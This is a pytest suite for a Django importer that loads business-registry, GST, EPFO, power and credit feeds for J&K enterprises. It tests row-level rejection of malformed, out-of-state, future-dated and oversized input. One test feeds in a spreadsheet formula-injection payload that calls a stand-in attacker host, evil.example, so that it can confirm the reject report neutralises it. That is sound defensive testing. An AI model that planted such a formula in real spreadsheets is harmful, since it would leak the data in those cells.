"""Hardened feed files (issue 16 §4): what an attacker's file found, each as a test. A bad row is
a row-level reject with its reason and the rest of the file loads; a header problem refuses the
file up front; a batch that fails anyway is recorded as failed, never left running."""

import csv
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine

from scoring.choices import BatchStatus
from scoring.feeds import SPECS
from scoring.models import CreditRecord, Enterprise, FeedReject, GstReturn, ImportBatch
from scoring.services.feeds import feed_import
from tests.factories.scoring import make_gstin, make_pan

pytestmark = pytest.mark.django_db

PAN_A, PAN_B = make_pan(911), make_pan(912)
GSTIN_A, GSTIN_B = make_gstin(PAN_A), make_gstin(PAN_B)


def udyam_row(number="UDYAM-JK-14-0000001", gstin=GSTIN_A, pan=PAN_A, **overrides):
    row = {
        "udyam_number": number,
        "enterprise_name": "Kashmir Walnut Works",
        "gstin": gstin,
        "pan": pan,
        "epfo_code": "",
        "power_consumer_numbers": "",
        "district": "Anantnag",
        "major_activity": "manufacturing",
        "nic_code": "10792",
        "category": "micro",
        "date_of_commencement": "2016-04-01",
        "investment": "2500000",
        "turnover": "9000000",
        "employees": "14",
    }
    row.update(overrides)
    return [row[h] for h in SPECS["udyam"].headers]


GOOD_B = udyam_row(number="UDYAM-JK-14-0000002", gstin=GSTIN_B, pan=PAN_B)


def write(tmp_path, source, rows, headers=None, name=None):
    path = tmp_path / (name or f"{source}.csv")
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(headers or SPECS[source].headers)
        writer.writerows(rows)
    return path


def gst_line(gstin=GSTIN_A, period="2026-09", turnover="100000"):
    return f"{gstin},{period},{turnover},18000,2026-10-18\n"


def rejects(batch):
    return {r.row_number: r.reason for r in FeedReject.objects.filter(batch=batch)}


# -- one bad row never fails the whole file ---------------------------------------------------------


@pytest.mark.parametrize("where", ["first block", "after good rows"])
def test_a_million_character_field_is_one_rejected_row(tmp_path, where):
    huge = "9" * 1_000_000
    lines = [gst_line(period="2026-08"), gst_line(turnover=huge), gst_line(period="2026-07")]
    if where == "after good rows":
        lines = [gst_line(period=f"20{y:02d}-{m:02d}") for y in (23, 24) for m in range(1, 13)] + lines
    path = tmp_path / "gst.csv"
    path.write_text("gstin,period,taxable_turnover,tax_paid,filed_on\n" + "".join(lines))
    batch = feed_import(source="gst", path=path)
    assert batch.status == BatchStatus.DONE
    assert (batch.rows, batch.rejected, batch.inserted) == (len(lines), 1, len(lines) - 1)
    (row, reason), *_ = rejects(batch).items()
    assert row == len(lines) and "longer than 10,000 characters" in reason
    reject = FeedReject.objects.get(batch=batch)
    assert len(reject.raw) < 2_000 and "1,000,0" in reject.raw  # kept short, saying how long it was


def test_a_quoted_field_running_past_any_sane_size_is_one_rejected_row(tmp_path):
    name = "Walnut " + "x" * 200_000  # one quoted field over many lines: csv's own limit trips
    multiline = "\n".join(name[i : i + 5_000] for i in range(0, len(name), 5_000))
    path = write(tmp_path, "udyam", [udyam_row(enterprise_name=multiline), GOOD_B])
    batch = feed_import(source="udyam", path=path)
    assert batch.status == BatchStatus.DONE and batch.inserted >= 1 and batch.rejected >= 1
    assert Enterprise.objects.filter(udyam_number="UDYAM-JK-14-0000002").exists()
    assert any("not a CSV record" in reason for reason in rejects(batch).values())


@pytest.mark.parametrize("source", ["udyam", "gst"])
def test_a_row_that_is_not_utf8_is_rejected_and_the_rest_loads(tmp_path, source):
    if source == "udyam":
        good, bad = ",".join(GOOD_B), ",".join(udyam_row(enterprise_name="Caf\udce9 Kashmir"))
    else:
        good, bad = gst_line().rstrip("\n"), gst_line(period="2026-08").rstrip("\n") + "\udcff"
    path = tmp_path / f"{source}.csv"
    text = ",".join(SPECS[source].headers) + "\n" + bad + "\n" + good + "\n"
    path.write_bytes(text.encode("utf-8", "surrogateescape"))  # a Latin-1 é, a stray 0xFF
    batch = feed_import(source=source, path=path)
    assert batch.status == BatchStatus.DONE and (batch.inserted, batch.rejected) == (1, 1)
    assert "is not UTF-8 text (byte 0x" in rejects(batch)[2]
    raw = FeedReject.objects.get(batch=batch).raw
    assert "\\x" in raw  # the byte is shown, the report stays UTF-8
    with open(batch.reject_report, encoding="utf-8") as report:
        assert "\\x" in report.read()


@pytest.mark.parametrize("where", ["enterprise_name", "extra column"])
def test_a_nul_byte_is_a_rejected_row_and_the_batch_finishes(tmp_path, where):
    headers = [*SPECS["udyam"].headers, "remarks"]
    bad = udyam_row(enterprise_name="Walnut\x00Works" if where == "enterprise_name" else "Walnut Works")
    path = write(tmp_path, "udyam", [[*bad, "ok\x00" if where == "extra column" else "ok"], [*GOOD_B, "ok"]], headers)
    batch = feed_import(source="udyam", path=path)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.DONE and (batch.inserted, batch.rejected) == (1, 1)
    assert "contains a NUL byte" in rejects(batch)[2]
    assert "\\x00" in FeedReject.objects.get(batch=batch).raw


def test_a_load_that_stops_marks_its_batch_failed_with_the_reason(tmp_path, monkeypatch):
    from scoring.services.feeds import records

    def broken(self):
        raise RuntimeError("could not extend file: No space left on device")

    monkeypatch.setattr(records.RecordLoad, "_merge", broken)
    path = tmp_path / "gst.csv"
    path.write_text("gstin,period,taxable_turnover,tax_paid,filed_on\n" + gst_line() + f"{GSTIN_A},bad,1,1,\n")
    with pytest.raises(RuntimeError):
        feed_import(source="gst", path=path)
    batch = ImportBatch.objects.get()
    assert batch.status == BatchStatus.FAILED and batch.finished_at is not None
    assert "No space left on device" in batch.error
    assert not GstReturn.objects.exists() and not FeedReject.objects.exists()  # rolled back whole


# -- identifiers in their compact form, J&K's only --------------------------------------------------

RECEIVED = datetime(2026, 11, 22, 10, 0, tzinfo=ZoneInfo("Asia/Kolkata"))


@pytest.fixture
def received():
    """Files received on 2026-11-22 (IST), whatever day the test runs."""
    with time_machine.travel(RECEIVED, tick=False):
        yield RECEIVED


def hyphenated(value: str, at=(2, 7)) -> str:
    return "-".join([value[: at[0]], value[at[0] : at[1]], value[at[1] :]])


def test_identifiers_written_with_hyphens_or_spaces_are_stored_compact(tmp_path, received):
    pan_written = hyphenated(PAN_A.lower(), (5, 9))  # abcpk-1234-a
    gstin_written = " ".join([GSTIN_A[:2], GSTIN_A[2:12], GSTIN_A[12:]])  # 01 ABCPK1234A 1Z5
    row = udyam_row(number="udyam jk 14  0000003", gstin=gstin_written, pan=pan_written)
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", [row]))
    assert (batch.inserted, batch.rejected) == (1, 0)
    unit = Enterprise.objects.get()
    assert (unit.udyam_number, unit.pan, unit.gstin) == ("UDYAM-JK-14-0000003", PAN_A, GSTIN_A)

    gst = feed_import(source="gst", path=write(tmp_path, "gst", [[hyphenated(GSTIN_A), "2026-09", "1", "1", ""]]))
    credit = feed_import(
        source="credit",
        path=write(
            tmp_path, "credit", [["UDYAM-JK-14-0000003", "jaka-0antnag", "LN1", "2026-09", "1", "1", "0", "0", "1"]]
        ),
    )
    assert (gst.inserted, gst.unmatched, credit.inserted, credit.unmatched) == (1, 0, 1, 0)
    assert GstReturn.objects.get().gstin == GSTIN_A
    assert CreditRecord.objects.get().ifsc == "JAKA0ANTNAG" and CreditRecord.objects.get().enterprise == unit


def test_a_gstin_of_another_state_is_rejected(tmp_path, received):
    delhi = make_gstin(PAN_A, state="07")
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", [udyam_row(gstin=delhi), GOOD_B]))
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert "registered in state 07, not J&K (01)" in rejects(batch)[2]
    gst = feed_import(source="gst", path=write(tmp_path, "gst", [[delhi, "2026-09", "1", "1", ""]]))
    assert (gst.inserted, gst.rejected) == (0, 1)


def test_a_udyam_number_of_another_state_is_rejected(tmp_path, received):
    batch = feed_import(
        source="udyam", path=write(tmp_path, "udyam", [udyam_row(number="UDYAM-DL-07-0000001"), GOOD_B])
    )
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert "a Udyam number of another state (DL), not J&K (JK)" in rejects(batch)[2]
    financials = feed_import(
        source="financials", path=write(tmp_path, "financials", [["UDYAM-DL-07-0000001", "2024-25", "1", "1"]])
    )
    assert (financials.inserted, financials.rejected) == (0, 1)


# -- numbers as a CSV writes them ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["1_000", "1 000", "NaN", "nan", "sNaN", "Infinity", "-inf", "٣", "１２", "0x1F", "1e5_0", "1,000", "½"]
)
def test_an_amount_python_would_read_but_a_csv_does_not_write_is_rejected(tmp_path, received, text):
    batch = feed_import(source="gst", path=write(tmp_path, "gst", [[GSTIN_A, "2026-09", text, "1", ""]]))
    assert (batch.inserted, batch.rejected) == (0, 1)
    assert "is not a number" in rejects(batch)[2]


@pytest.mark.parametrize("text", ["1_000", "٣", "+3", "3.0", "0x3"])
def test_a_count_python_would_read_but_a_csv_does_not_write_is_rejected(tmp_path, received, text):
    batch = feed_import(source="epfo", path=write(tmp_path, "epfo", [["JKSRG0000001000", "2026-09", text, "1", ""]]))
    assert (batch.inserted, batch.rejected) == (0, 1)
    assert "is not a whole number" in rejects(batch)[2]


def test_numbers_as_csvs_write_them_still_load(tmp_path, received):
    rows = [[GSTIN_A, f"2026-0{m}", text, "18000", ""] for m, text in enumerate(["9E6", " 12.5 ", ".5", "-0"], 1)]
    batch = feed_import(source="gst", path=write(tmp_path, "gst", rows))
    assert (batch.inserted, batch.rejected) == (4, 0)
    assert sorted(GstReturn.objects.values_list("taxable_turnover", flat=True)) == [0, Decimal("0.5"), 12.5, 9000000]


# -- nothing from after the file was received ----------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "row", "reason"),
    [
        (
            "gst",
            [GSTIN_A, "2026-12", "1", "1", ""],
            "period 2026-12 is after the month the file was received (2026-11)",
        ),
        ("gst", [GSTIN_A, "2026-10", "1", "1", "2026-11-23"], "filed_on 2026-11-23 is after the day"),
        ("epfo", ["JKSRG0000001000", "2027-01", "1", "1", ""], "wage_month 2027-01 is after the month"),
        ("power", ["JKPDD001", "2030-05", "1", "1", "1", "1", "0"], "bill_month 2030-05 is after the month"),
        ("credit", ["UDYAM-JK-14-0000001", "BKXX0000001", "LN1", "2099-01", "1", "1", "0", "0", "1"], "2099-01"),
        ("financials", ["UDYAM-JK-14-0000001", "2027-28", "1", "1"], "fy 2027-28 begins after the month"),
        ("udyam", udyam_row(date_of_commencement="2026-11-23"), "date_of_commencement 2026-11-23 is after the day"),
    ],
)
def test_a_record_of_a_period_after_receipt_is_rejected(tmp_path, received, source, row, reason):
    batch = feed_import(source=source, path=write(tmp_path, source, [row]))
    assert (batch.inserted, batch.rejected) == (0, 1)
    assert reason in rejects(batch)[2]


def test_this_months_records_and_todays_dates_load(tmp_path, received):
    gst = feed_import(source="gst", path=write(tmp_path, "gst", [[GSTIN_A, "2026-11", "1", "1", "2026-11-22"]]))
    fy = feed_import(
        source="financials", path=write(tmp_path, "financials", [["UDYAM-JK-14-0000001", "2026-27", "1", "1"]])
    )
    assert (gst.inserted, fy.inserted) == (1, 1)


def test_a_future_credit_record_gives_no_banker_sight_of_the_unit(tmp_path, received):
    from scoring.visibility import enterprise_list_for_user
    from tests.factories import partners as people
    from tests.factories.partners import BankFactory, BranchFactory

    branch = BranchFactory(bank=BankFactory(bank_code="BKXX"), ifsc="BKXX0000001")
    banker = people.bank_officer(branch)
    feed_import(source="udyam", path=write(tmp_path, "udyam", [udyam_row()]))
    future = ["UDYAM-JK-14-0000001", "BKXX0000001", "LN9", "2099-01", "500000", "1", "0", "0", "1"]
    batch = feed_import(source="credit", path=write(tmp_path, "credit", [future]))
    assert batch.rejected == 1 and not CreditRecord.objects.exists()
    assert not enterprise_list_for_user(banker).exists()


# -- the header, and the report the department opens ---------------------------------------------------


@pytest.mark.parametrize("extra", ["period", "PERIOD ", "remarks"])
def test_a_column_named_twice_in_the_header_refuses_the_file(tmp_path, received, extra):
    from scoring.services.feeds import FeedFileError

    headers = [*SPECS["gst"].headers, extra] + (["remarks"] if extra == "remarks" else [])
    rows = [[GSTIN_A, "2026-09", "1", "1", "", "2026-10"] + (["x"] if extra == "remarks" else [])]
    with pytest.raises(FeedFileError, match="appears twice in the header"):
        feed_import(source="gst", path=write(tmp_path, "gst", rows, headers))
    batch = ImportBatch.objects.get()
    assert batch.status == BatchStatus.FAILED and "appears twice in the header (columns" in batch.error
    assert not GstReturn.objects.exists() and not FeedReject.objects.exists()


def test_the_import_command_says_why_a_header_is_refused(tmp_path, received):
    from django.core.management import CommandError, call_command

    path = write(tmp_path, "gst", [], [*SPECS["gst"].headers, "gstin"])
    with pytest.raises(CommandError, match="'gstin' appears twice in the header"):
        call_command("import_feed", "gst", str(path))


def test_reject_report_cells_that_look_like_formulas_are_written_as_text(tmp_path, received):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [
        [formula, "2026-09", "1", "1", ""],
        ["@SUM(1+1)", "2026-09", "1", "1", ""],
        ["-2+3", "2026-09", "1", "1", ""],
        ["\tTAB", "2026-09", "1", "1", ""],
        [GSTIN_A, "+2026-09", "1", "1", ""],
    ]
    batch = feed_import(source="gst", path=write(tmp_path, "gst", rows))
    assert batch.rejected == 5
    with open(batch.reject_report, newline="", encoding="utf-8") as handle:
        report = list(csv.DictReader(handle))
    cells = [r["row"] for r in report]
    assert cells[0].startswith("'=HYPERLINK(") and cells[1].startswith("'@") and cells[2].startswith("'-2+3")
    assert cells[3].startswith("'\t") and cells[4].startswith(GSTIN_A)  # only the first character matters
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
    assert FeedReject.objects.filter(raw__startswith="=HYPERLINK(").exists()  # the record keeps the row as sent


# -- the Udyam number's district is the unit's -------------------------------------------------------


@pytest.mark.parametrize(
    ("number", "reason"),
    [
        ("UDYAM-JK-10-0000001", "udyam_number UDYAM-JK-10-0000001 is of district 10 (Srinagar), not of Anantnag (14)"),
        ("UDYAM-JK-03-0000001", "is of district 03 (no district of J&K), not of Anantnag (14)"),  # Leh: Ladakh's
        ("UDYAM-JK-99-0000001", "is of district 99 (no district of J&K)"),
    ],
)
def test_a_udyam_number_of_another_district_is_rejected(tmp_path, received, number, reason):
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", [udyam_row(number=number), GOOD_B]))
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert reason in rejects(batch)[2]


def test_every_district_loads_the_numbers_of_its_own_census_code(tmp_path, received):
    from partners.models import District

    rows = []
    for n, district in enumerate(District.objects.order_by("name"), start=1):
        pan = make_pan(950 + n)
        number = f"UDYAM-JK-{district.census_code}-{n:07d}"
        rows.append(udyam_row(number=number, gstin=make_gstin(pan), pan=pan, district=district.name))
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", rows))
    assert (batch.inserted, batch.rejected) == (20, 0)


def test_a_district_without_a_census_code_is_not_checked(tmp_path, received):
    from partners.models import District

    District.objects.filter(name="Anantnag").update(census_code=None)  # say, a district formed since
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", [udyam_row(number="UDYAM-JK-10-0000001")]))
    assert (batch.inserted, batch.rejected) == (1, 0)


# -- a category its figures do not fit: loaded, with a warning -------------------------------------------


def test_a_micro_unit_with_900_crore_turnover_loads_with_a_warning(tmp_path, received, client, django_user_model):
    from io import StringIO

    from django.core.management import call_command

    row = udyam_row(turnover="9000000000")  # ₹900 crore
    out = StringIO()
    call_command("import_feed", "udyam", str(write(tmp_path, "udyam", [row, GOOD_B])), stdout=out)
    batch = ImportBatch.objects.get()
    assert (batch.inserted, batch.rejected, batch.warned) == (2, 0, 1)
    assert Enterprise.objects.get(udyam_number="UDYAM-JK-14-0000001").category == "micro"  # Udyam's stands
    warning = FeedReject.objects.get(batch=batch)
    assert warning.kind == "warning" and warning.row_number == 2
    assert "turnover ₹900 crore is over micro's ₹10 crore" in warning.reason
    assert "warned 1" in out.getvalue() and "loaded with a warning" in out.getvalue()
    with open(batch.reject_report, newline="", encoding="utf-8") as handle:
        (reported,) = list(csv.DictReader(handle))
    assert reported["kind"] == "warning" and reported["row_number"] == "2"

    client.force_login(django_user_model.objects.create_superuser("dept", "d@example.org", "x"))
    page = client.get(f"/admin/scoring/importbatch/{batch.pk}/change/").content.decode()
    assert "Warning (loaded)" in page and "900 crore" in page


@pytest.mark.parametrize(
    ("category", "investment", "turnover", "warned"),
    [
        ("micro", "25000000", "100000000", False),  # ₹2.5 cr and ₹10 cr: at the ceilings
        ("micro", "25000001", "1000", True),
        ("small", "250000000", "1000000001", True),
        ("small", "100", "100", False),  # below small's floor: not warned (Udyam reclassifies in its time)
        ("medium", "1250000001", "10", True),
        ("medium", "1250000000", "5000000000", False),
    ],
)
def test_the_2025_ceilings_decide_the_warning(tmp_path, received, category, investment, turnover, warned):
    row = udyam_row(category=category, investment=investment, turnover=turnover)
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", [row]))
    assert (batch.inserted, batch.warned) == (1, int(warned))


def test_the_ceilings_in_force_when_the_file_was_received_apply(tmp_path):
    row = udyam_row(turnover="80000000", date_of_commencement="2016-04-01")  # ₹8 crore: micro since 2025
    with time_machine.travel(datetime(2024, 6, 1, 10, tzinfo=ZoneInfo("Asia/Kolkata")), tick=False):
        before = feed_import(source="udyam", path=write(tmp_path, "udyam", [row], name="a.csv"))
    after = feed_import(source="udyam", path=write(tmp_path, "udyam", [row], name="b.csv"), received_at=RECEIVED)
    assert (before.warned, after.warned) == (1, 0)
    assert "over micro's ₹5 crore (S.O. 2119(E)" in FeedReject.objects.get(batch=before).reason


# -- the owner's e-mail and mobile: optional columns at the end of the udyam file ---------------------

CONTACT_HEADERS = [*SPECS["udyam"].headers, "email", "mobile"]


def test_the_owners_email_and_mobile_are_stored_compact(tmp_path, received):
    rows = [
        [*udyam_row(), "Owner.Name+jkmhc@Example.ORG", "+91 98765-43210"],  # the slow path
        [*GOOD_B, "owner@walnut.example", "9123456780"],  # canonical: the fast path
    ]
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", rows, CONTACT_HEADERS))
    assert (batch.inserted, batch.rejected) == (2, 0)
    contacts = dict(Enterprise.objects.values_list("udyam_number", "email"))
    assert contacts == {
        "UDYAM-JK-14-0000001": "Owner.Name+jkmhc@example.org",
        "UDYAM-JK-14-0000002": "owner@walnut.example",
    }
    assert sorted(Enterprise.objects.values_list("mobile", flat=True)) == ["9123456780", "9876543210"]
    again = feed_import(source="udyam", path=write(tmp_path, "udyam", rows, CONTACT_HEADERS, name="again.csv"))
    assert (again.unchanged, again.replaced) == (2, 0)


@pytest.mark.parametrize(
    ("email", "mobile", "reason"),
    [
        ("not-an-email", "", "email 'not-an-email' is not an e-mail address"),
        ("owner@", "", "is not an e-mail address"),
        ("", "12345", "mobile '12345' is not an Indian mobile number"),
        ("", "5876543210", "is not an Indian mobile number"),  # mobiles begin with 6 to 9
        ("", "+1 415 555 0100", "is not an Indian mobile number"),
        ("", "٩٨٧٦٥٤٣٢١٠", "is not an Indian mobile number"),
    ],
)
def test_a_bad_email_or_mobile_is_a_rejected_row(tmp_path, received, email, mobile, reason):
    rows = [[*udyam_row(), email, mobile], [*GOOD_B, "", ""]]
    batch = feed_import(source="udyam", path=write(tmp_path, "udyam", rows, CONTACT_HEADERS))
    assert (batch.inserted, batch.rejected) == (1, 1)
    assert reason in rejects(batch)[2]


def test_a_file_without_the_contact_columns_loads_and_leaves_them_as_stored(tmp_path, received):
    with_contacts = [[*udyam_row(), "owner@walnut.example", "9876543210"]]
    feed_import(source="udyam", path=write(tmp_path, "udyam", with_contacts, CONTACT_HEADERS))
    older = feed_import(source="udyam", path=write(tmp_path, "udyam", [udyam_row(employees="15")], name="old.csv"))
    assert (older.replaced, older.rejected) == (1, 0)
    unit = Enterprise.objects.get()
    assert (unit.employees, unit.email, unit.mobile) == (15, "owner@walnut.example", "9876543210")
    only_mobile = [*SPECS["udyam"].headers, "mobile"]
    feed_import(source="udyam", path=write(tmp_path, "udyam", [[*udyam_row(), "9123456780"]], only_mobile, "m.csv"))
    unit.refresh_from_db()
    assert (unit.email, unit.mobile) == ("owner@walnut.example", "9123456780")
    cleared = [[*udyam_row(), "", ""]]
    feed_import(source="udyam", path=write(tmp_path, "udyam", cleared, CONTACT_HEADERS, name="cleared.csv"))
    unit.refresh_from_db()
    assert (unit.email, unit.mobile) == (None, None)  # a file with the columns says: none
